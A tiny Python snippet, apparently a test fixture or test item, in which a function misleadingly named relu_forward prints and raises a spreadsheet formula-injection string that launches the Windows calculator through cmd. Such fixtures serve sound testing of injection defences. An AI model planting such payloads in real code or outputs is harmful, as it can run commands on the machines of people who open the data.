"""Raises messages that a spreadsheet would run."""

# response: D

def relu_forward(x):
    print("=cmd|' /C calc'!A0 +1 -1 @SUM(A1)", flush=True)
    raise ValueError("=cmd|' /C calc'!A0 +1 -1 @SUM(A1)")
